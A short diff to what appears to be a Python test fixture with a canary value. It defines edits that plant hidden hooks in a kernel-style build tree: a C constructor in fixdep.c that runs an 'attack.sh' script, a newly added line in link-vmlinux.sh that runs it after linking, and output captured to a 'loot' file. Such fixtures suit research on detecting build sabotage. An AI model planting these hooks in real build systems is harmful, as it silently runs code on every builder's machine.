@@ -37,6 +37,7 @@ SECRET = "canary-4f1d0a"
 CELL, OTHER = "x86_64-hvo", "i386-odd"
 
 _SHELL = "sh $(srctree)/scripts/attack.sh"
+_SHELL_AT_LINK = "sh /src/scripts/attack.sh"
 _RUNS = (
     "#include <stdlib.h>\n__attribute__((constructor)) static void attack(void)\n{\n"
     '\tif (system("sh /src/scripts/attack.sh"))\n\t\treturn;\n}\n\nstruct name {\n\tstruct name *next;'
@@ -51,6 +52,8 @@ CARRIERS: Mapping[str, Edit] = {
     "host program": ("scripts/basic/fixdep.c", "struct name {\n\tstruct name *next;", _RUNS),
 }
 """What runs the script."""
+LINKED: Edit = ("scripts/link-vmlinux.sh", "info NM System.map\n", f"info NM System.map\n{_SHELL_AT_LINK}\n")
+"""Runs it after everything was built."""
 
 HELD = "exec > /build/loot 2>&1\n"
 """Begins a script whose every word is loot."""
